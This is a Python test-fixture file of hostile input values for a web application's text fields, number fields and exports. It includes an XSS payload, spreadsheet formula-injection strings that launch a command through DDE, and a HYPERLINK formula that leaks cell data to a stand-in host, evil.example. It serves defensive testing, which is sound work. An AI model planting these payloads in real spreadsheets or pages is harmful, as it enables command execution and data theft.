"""Hostile text values. TEXTS must be refused or stored cleanly by every text field; FORMULAS must come
back out of every export as text; NUMBERS go into number fields (PostgreSQL refuses an integer past
2**63 with an error that becomes a 500 when nobody checks the range first)."""

NUL = "Стрижка\x00-20%"
LONE_SURROGATE = "Стрижка \ud800 скидка"
RTL_OVERRIDE = "Salon \u202egnp.exe\u202c review"
COMBINING = "Z" + "\u0335\u0336\u0337\u0338\u0300\u0301\u0302\u0303" * 40 + "algo"
EMOJI_ZWJ = "Family 👨\u200d👩\u200d👧\u200d👦 and flag 🏳️\u200d🌈 and skin 👋🏽"
BOMS = "\ufeffStart and \ufeff inside\ufeff"
CONTROL = "bell\x07 escape\x1b[31m vertical\x0b form\x0c delete\x7f"
LINE_BREAKS = "one\rtwo\r\nthree\u2028four\u2029five\x85six"
NONCHARACTERS = "x\ufffe\uffff\U0010ffff y"
HTML = "<script>alert(1)</script><img src=x onerror=alert(1)>\"'&"
HUGE = "Ж" * 100_000

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

# The values every text field gets: each alone is a separate case, named by the key.
TEXTS = {
    "nul": NUL,
    "lone_surrogate": LONE_SURROGATE,
    "rtl_override": RTL_OVERRIDE,
    "combining": COMBINING,
    "emoji_zwj": EMOJI_ZWJ,
    "boms": BOMS,
    "control": CONTROL,
    "line_breaks": LINE_BREAKS,
    "noncharacters": NONCHARACTERS,
    "html": HTML,
    "formula": FORMULAS[0],
    "huge": HUGE,
}

# A form or JSON number field: past the 64-bit range, not a number, not finite, absurd.
NUMBERS = [
    *("99999999999999999999999", "-99999999999999999999999", "9223372036854775808", "1e400", "-1"),
    *("NaN", "sNaN", "Infinity", "-0", "0x10", "١٢٣", "1" + "0" * 5000),
]
DATES = ["9999-12-31", "0001-01-01", "2026-02-30", "2026-13-01", "99999-01-01", "2026-01-01T25:61"]


def storable(text: str) -> bool:
    """What PostgreSQL can hold in a text column: no NUL, valid UTF-8 (no lone surrogates)."""
    if "\x00" in text:
        return False
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        return False
    return True


def is_formula(cell: str) -> bool:
    """A cell a spreadsheet would run."""
    return cell.startswith(("=", "+", "-", "@", "\t", "\r"))
